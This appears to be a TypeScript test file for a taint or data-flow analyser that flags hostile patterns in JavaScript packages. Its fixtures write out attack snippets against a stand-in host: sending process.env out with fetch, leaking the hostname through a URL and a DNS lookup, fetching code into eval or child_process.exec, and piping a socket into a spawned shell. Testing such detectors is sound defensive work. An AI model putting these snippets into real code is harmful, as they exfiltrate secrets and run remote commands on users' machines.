import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { flowLines } from '../../test/behave.ts';

const CASES: readonly (readonly [string, Readonly<Record<string, string>>, string])[] = [
  [
    'into the body of a request',
    { 'index.js': `fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })` },
    'process.env → fetch as content',
  ],
  [
    'into the address of a request',
    { 'index.js': `fetch('https://a.invalid/?h=' + require('os').hostname())` },
    'os.hostname → fetch as target',
  ],
  [
    'into a name that is looked up',
    { 'index.js': `require('dns').lookup(require('os').hostname() + '.a.invalid', () => {})` },
    'os.hostname → dns.lookup as target',
  ],
  [
    'from the network into evaluation',
    { 'index.js': `require('axios').get('https://a.invalid').then(({ data }) => eval(data))` },
    'axios.get → eval as content',
  ],
  [
    'from the network into a command',
    { 'index.js': `fetch('https://a.invalid').then(r => r.text()).then(t => require('child_process').exec(t))` },
    'fetch → child_process.exec as content',
  ],
  [
    'through a pipe into a file',
    { 'index.js': `require('https').get('https://a.invalid', r => r.pipe(require('fs').createWriteStream('/tmp/x')))` },
    'https.get → fs.createWriteStream as content',
  ],
  [
    'from a socket into a shell',
    { 'index.js': `const s = require('net').connect(1, 'a.invalid'); s.pipe(require('child_process').spawn('sh').stdin)` },
    'net.connect → child_process.spawn as input',
  ],
  [
    'from a file of the package into evaluation',
    { 'index.js': `new Function(require('fs').readFileSync(__dirname + '/LICENSE', 'utf8'))()`, LICENSE: '1' },
    'fs.readFileSync → Function as content',
  ],
  [
    'through a listener',
    {
      'index.js': `const e = new (require('events'))(); e.on('go', d => fetch('https://a.invalid', { body: d })); e.emit('go', process.env)`,
    },
    'process.env → fetch as content',
  ],
  [
    'through a method',
    { 'index.js': `class S { send(d) { fetch('https://a.invalid', { body: d }) } } new S().send(process.env)` },
    'process.env → fetch as content',
  ],
  [
    'from one file to the next',
    {
      'index.js': `require('./b')(require('./a').all())`,
      'a.js': `exports.all = () => ({ e: process.env })`,
      'b.js': `module.exports = d => fetch('https://a.invalid', { body: d })`,
    },
    'process.env → fetch as content',
  ],
];

describe('data travels', () => {
  for (const [how, files, expected] of CASES) {
    it(how, () => {
      const found = flowLines(files);
      assert.ok(found.includes(expected), found.join('\n'));
    });
  }

  it('and neighbours stay neighbours', () => {
    assert.deepEqual(
      flowLines({ 'index.js': `console.log(require('os').hostname(), process.env.HOME); fetch('https://a.invalid', { body: 'ping' })` }),
      [],
    );
  });
});
